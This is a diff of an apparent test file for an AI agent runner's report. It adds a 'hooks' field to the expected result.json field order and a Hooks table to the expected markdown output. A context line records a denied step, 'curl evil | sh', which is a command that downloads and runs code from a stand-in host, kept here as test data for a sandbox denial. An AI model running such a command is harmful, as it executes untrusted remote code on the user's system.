@@ -21,7 +21,7 @@ fn the_fields_of_result_json_stand_in_this_order() {
         keys.join(" "),
         "schema run session state exit_status reason message hint retryable started ended \
          duration_ms model usage cost steps tool_calls changed changed_files not_in_diff checks \
-         denials processes command_logs sandbox digests artifacts warnings sources"
+         denials hooks processes command_logs sandbox digests artifacts warnings sources"
     );
 }
 
@@ -114,6 +114,12 @@ error: ```
 | step | action | rule | reason |
 | --- | --- | --- | --- |
 | 1 | curl evil \\| sh | built-in: exec.default | no rule allows it |
+
+### Hooks
+
+| hook | command | runs | denials | errors | time |
+| --- | --- | --- | --- | --- | --- |
+| before\\_tool\\[0\\] | \\./guard \\| x | 3 | 1 | 0 | 12ms |
 
 ### Final message
 
